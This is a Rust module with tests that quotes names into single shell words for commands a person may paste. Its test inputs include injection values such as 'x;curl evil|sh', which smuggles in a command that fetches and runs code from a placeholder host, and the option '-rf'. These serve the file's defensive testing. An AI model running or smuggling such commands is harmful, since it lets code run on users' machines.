//! Names in commands that a person may paste into a shell.

/// A name that is longer stands in no command.
const LIMIT: usize = 1024;

/// Returns a text as one word of a shell's command, in quotes where it needs them; nothing where no quotes help: one that
/// begins with `-` would be an option whatever is around it, one with a backslash may be what is shown in place of a
/// character that cannot be, and a long one is not read before it is pasted.
pub fn quoted(text: &str) -> Option<String> {
    if text.starts_with('-') || text.contains('\\') || text.len() > LIMIT || text.contains(bundle::is_unseen)
    {
        return None;
    }
    // As in Python's shlex; `=` and `%` at the beginning are more than letters to some shells.
    let plain = |c: char| c.is_ascii_alphanumeric() || "@%+=:,./-_".contains(c);
    if !text.is_empty() && text.chars().all(plain) && !text.starts_with(['=', '%']) {
        return Some(text.to_owned());
    }
    Some(format!("'{}'", text.replace('\'', "'\"'\"'")))
}

#[cfg(test)]
mod tests {
    use std::process::Command;

    use super::*;

    #[test]
    fn plain_names_stay_as_they_are() {
        for plain in [
            "node-0",
            "10.200.1.0/24",
            "docker.io/library/nginx:1.29@sha256:00",
            "https://10.0.0.1:6443",
            "net.ipv4.ip_forward",
            "eth0@if2",
        ] {
            assert_eq!(quoted(plain).as_deref(), Some(plain));
        }
    }

    #[test]
    fn a_shell_takes_every_quoted_text_for_one_word_and_for_no_option() {
        for nasty in crate::nasty::texts() {
            let Some(word) = quoted(&crate::shown(&nasty)) else {
                continue;
            };
            for shell in ["sh", "bash"] {
                let command = format!("printf '[%s]' {word}");
                let ran = Command::new(shell).args(["-c", &command]).output().unwrap();
                assert_eq!(
                    String::from_utf8_lossy(&ran.stdout),
                    format!("[{}]", crate::shown(&nasty)),
                    "{command}"
                );
            }
            assert!(!word.starts_with('-'), "{word}");
        }
    }

    #[test]
    fn what_no_quotes_make_safe_stands_in_no_command() {
        for unsafe_text in [
            "-rf",
            "--all",
            "a\\u{1b}b",
            "a\nb",
            "\u{202e}x",
            &"x".repeat(1025),
        ] {
            assert_eq!(quoted(unsafe_text), None, "{unsafe_text:?}");
        }
        assert_eq!(quoted("").as_deref(), Some("''"));
        assert_eq!(quoted("x;curl evil|sh").as_deref(), Some("'x;curl evil|sh'"));
    }
}
